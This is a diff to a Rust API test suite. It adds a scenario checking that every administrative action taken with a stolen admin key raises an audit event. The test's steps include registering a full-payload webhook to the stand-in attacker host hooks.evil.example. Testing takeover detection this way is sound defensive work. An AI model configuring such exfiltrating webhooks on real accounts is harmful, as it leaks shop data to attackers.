@@ -17,6 +17,7 @@ crate::scenarios! {
     the_audit_log_names_the_key_of_each_request
     the_audit_log_is_read_page_by_page
     a_request_with_the_same_idempotency_key_is_executed_once
+    a_stolen_admin_key_changes_nothing_in_silence
     a_repeated_request_creates_one_key
     a_repeated_request_creates_one_shop
 }
@@ -283,6 +284,26 @@ fn the_audit_log_is_read_page_by_page(backend: &mut dyn Backend) {
         refused.problem(422, code, None);
         assert_eq!(refused.body["errors"][0]["parameter"], name);
     }
+}
+
+fn a_stolen_admin_key_changes_nothing_in_silence(backend: &mut dyn Backend) {
+    let shop = Shop::create(backend);
+    crate::links::listen(backend, &shop);
+    let told = |backend: &mut dyn Backend| {
+        let rows = backend.dump();
+        let administration = ["key.created", "key.revoked", "webhook.changed", "settings.changed"];
+        let of = |kind: &str| rows.iter().filter(|(table, row)| table == "event" && row.contains(kind)).count();
+        administration.map(of)
+    };
+    assert_eq!(told(backend), [0, 0, 0, 0], "the first webhook is not told of itself");
+    let key = json!({ "kind": "sk", "name": "a thief's", "scopes": ["admin"] });
+    let made = ask(backend, Method::POST, "/v1/keys", &shop.secret, &key).ok();
+    let hook = json!({ "url": "https://hooks.evil.example/", "payload": "full" });
+    let hook = ask(backend, Method::POST, "/v1/webhooks", &shop.secret, &hook).ok();
+    ask(backend, Method::PATCH, "/v1/shop", &shop.secret, &json!({ "name": "Kestrel Tea" })).ok();
+    ask(backend, Method::DELETE, &format!("/v1/keys/{}", text(&made["id"])), &shop.secret, &Value::Null).ok();
+    ask(backend, Method::DELETE, &format!("/v1/webhooks/{}", text(&hook["id"])), &shop.secret, &Value::Null).ok();
+    assert_eq!(told(backend), [1, 1, 2, 1]);
 }
 
 fn a_request_with_the_same_idempotency_key_is_executed_once(backend: &mut dyn Backend) {
